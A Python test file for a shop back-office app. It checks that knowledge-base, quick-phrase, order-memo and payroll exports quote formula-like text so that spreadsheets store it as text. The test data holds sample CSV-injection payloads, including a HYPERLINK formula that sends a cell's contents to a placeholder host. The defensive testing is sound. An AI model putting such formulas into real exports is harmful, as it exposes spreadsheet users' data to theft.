"""Every export opens safely in a spreadsheet: text that starts like a formula is
written with a leading quote and stored as text, real numbers stay numbers (OWASP's
rule against CSV injection), through the real pages."""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import MakeStaff, csrf_from, sign_in
from tests.orders.test_pages import _order, _post
from xiaoer.assistant import kb
from xiaoer.assistant.models import KnowledgeEntry
from xiaoer.core.db import Database
from xiaoer.reception import phrases
from xiaoer.shops.models import Shop

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"a")'
# What a spreadsheet would run or smuggle into a formula: typed into a form…
TYPED = [HYPERLINK, "+1", "-2+3", "@SUM(A1)"]
# …and led by a tab or a carriage return, which the forms trim away, so they are
# written through the services.
LED = ["\t=1+1", "\r=1+1"]


def _as_read(text: str) -> str:
    """A text as read back from a workbook, whose XML turns a carriage return into a
    line feed."""
    return text.replace("\r", "\n")


MONTH = "2026-10"


def _workbook_cells(content: bytes) -> list[tuple[object, str]]:
    """Every cell of the workbook as (value, data type)."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row
    ]


def _rows(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _assert_no_formula(content: bytes) -> None:
    for value, kind in _workbook_cells(content):
        assert kind != "f", value
        assert not (isinstance(value, str) and value.startswith(("=", "+", "-", "@"))), value


async def test_a_knowledge_entry_written_as_a_formula_exports_as_text_and_imports_back(
    client: httpx.AsyncClient, db: Database, shop: Shop, make_staff: MakeStaff
) -> None:
    await make_staff("zhao", "manager")
    await sign_in(client, "zhao")
    for number, answer in enumerate(TYPED):
        token = csrf_from((await client.get("/assistant/knowledge")).text)
        saved = await client.post(
            "/assistant/knowledge",
            data={"csrf_token": token, "intent": "courier", "title": f"公式{number}",
                  "questions": answer, "answer": answer},
        )  # fmt: skip
        assert saved.status_code == 303
    async with db.session() as session:
        for number, answer in enumerate(LED, start=len(TYPED)):
            item = kb.EntryInput(intent="courier", title=f"公式{number}", answer=answer)
            await kb.do_save_entry(session, shop_id=shop.id, item=item)
        await session.commit()

    exported = await client.get("/assistant/knowledge.xlsx")
    assert exported.status_code == 200
    _assert_no_formula(exported.content)
    book = load_workbook(io.BytesIO(exported.content))
    sheet = book.active
    assert sheet is not None
    answers = {row[2].value: row[4] for row in sheet.iter_rows(min_row=2)}
    for number, answer in enumerate([*TYPED, *LED]):
        cell = answers[f"公式{number}"]
        assert (cell.value, cell.data_type) == ("'" + _as_read(answer), "s")
    questions = {row[2].value: row[3].value for row in sheet.iter_rows(min_row=2)}
    assert questions["公式0"] == "'" + HYPERLINK

    # The file imports back to what was exported: the quotes come off, and only the
    # entry whose carriage return came back a line feed changes.
    token = csrf_from((await client.get("/assistant/knowledge")).text)
    files = {"file": ("knowledge.xlsx", exported.content, "application/octet-stream")}
    again = await client.post(
        "/assistant/knowledge/import", files=files, data={"csrf_token": token}
    )
    assert again.status_code == 200
    async with db.session() as session:
        stored = {
            e.title: e.answer
            for e in await session.scalars(
                select(KnowledgeEntry).where(KnowledgeEntry.title.like("公式%"))
            )
        }
    assert stored == {f"公式{n}": _as_read(answer) for n, answer in enumerate([*TYPED, *LED])}
    count = len(answers)
    assert f"读取 {count} 行：新增 0，更新 1，未变 {count - 1}，拒绝 0。" in again.text


async def test_a_quick_phrase_written_as_a_formula_exports_as_text(
    client: httpx.AsyncClient, db: Database, shop: Shop, make_staff: MakeStaff
) -> None:
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    for number, text in enumerate(TYPED):
        token = csrf_from((await client.get("/reception/phrases")).text)
        saved = await client.post(
            "/reception/phrases",
            data={"shortcut": f"f{number}", "text": text, "group": text, "scope": "shop",
                  "csrf_token": token},
        )  # fmt: skip
        assert saved.status_code == 303
    async with db.session() as session:
        for number, text in enumerate(LED, start=len(TYPED)):
            item = phrases.PhraseInput(shortcut=f"f{number}", text=text)
            await phrases.do_save_phrase(session, shop_id=shop.id, owner_id=None, item=item)
        await session.commit()

    exported = await client.get("/reception/phrases.xlsx", params={"scope": "shop"})
    assert exported.status_code == 200
    _assert_no_formula(exported.content)
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    texts = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert sorted(texts) == [f"f{n}" for n in range(len(TYPED) + len(LED))]
    for number, text in enumerate([*TYPED, *LED]):
        cell = texts[f"f{number}"]
        assert (cell.value, cell.data_type) == ("'" + _as_read(text), "s")
    groups = [row[0].value for row in sheet.iter_rows(min_row=2) if row[0].value]
    assert sorted(groups) == sorted("'" + text for text in TYPED)


async def test_a_seller_note_written_as_a_formula_goes_into_the_memo_file_quoted(
    client: httpx.AsyncClient, db: Database, shop: Shop, make_staff: MakeStaff
) -> None:
    mei = await make_staff("mei")
    await make_staff("boss", "supervisor")
    notes = [*TYPED, *LED]
    ids = {}
    for number in range(len(notes)):
        tid = f"33625123456789{number:02d}"
        ids[tid] = await _order(db, shop.id, tid, owner=mei)
    await sign_in(client, "mei")
    for (tid, order_id), note in zip(ids.items(), notes, strict=True):
        page = f"/orders/{order_id}"
        written = await _post(client, f"{page}/note", page, text=note)
        assert written.status_code == 303, tid

    await sign_in(client, "boss")
    response = await client.get("/orders/memos.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["tid", "flag", "memo"]
    memos = {row[0]: row for row in rows[1:]}
    # The order ids are text of digits and the flags digits: left as they are. The
    # notes' leading tab and carriage return were trimmed when they were written.
    assert sorted(memos) == sorted(ids)
    for tid, note in zip(ids, notes, strict=True):
        assert memos[tid] == [tid, "1", "'" + note.strip()]


async def test_a_payroll_sheet_keeps_amounts_as_numbers_and_reasons_as_text(
    client: httpx.AsyncClient, db: Database, shop: Shop, make_staff: MakeStaff
) -> None:
    mei = await make_staff("mei", name="小梅")
    await make_staff("boss", "supervisor")
    await sign_in(client, "boss")
    page = f"/performance/payroll?month={MONTH}"
    for kind, amount, reason in (("deduction", "50", HYPERLINK), ("bonus", "12.50", "+1")):
        added = await _post(
            client, "/performance/payroll/adjust", page, month=MONTH, kind=kind,
            agent_id=str(mei.id), amount_yuan=amount, reason=reason,
        )  # fmt: skip
        assert added.status_code == 303

    exported = await client.get(f"/performance/payroll.xlsx?month={MONTH}")
    assert exported.status_code == 200
    _assert_no_formula(exported.content)
    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet is not None
    lines = [row for row in sheet.iter_rows(min_row=2) if row[1].value == "小梅"]
    by_reason = {row[5].value: row for row in lines}
    deduction = by_reason["'" + HYPERLINK]
    assert (deduction[4].value, deduction[4].data_type) == (-50, "n")
    assert deduction[4].number_format == "0.00"
    assert (deduction[5].data_type, deduction[0].value, deduction[0].data_type) == (
        "s", "1001", "s",
    )  # fmt: skip
    bonus = by_reason["'+1"]
    assert (bonus[4].value, bonus[4].data_type) == (12.5, "n")
    amounts = [row[4] for row in lines]
    assert all(cell.data_type == "n" for cell in amounts)
    total = lines[-1][4].value
    assert isinstance(total, (int, float))
    assert round(total, 2) == round(sum(float(cell.value or 0) for cell in amounts[:-1]), 2)
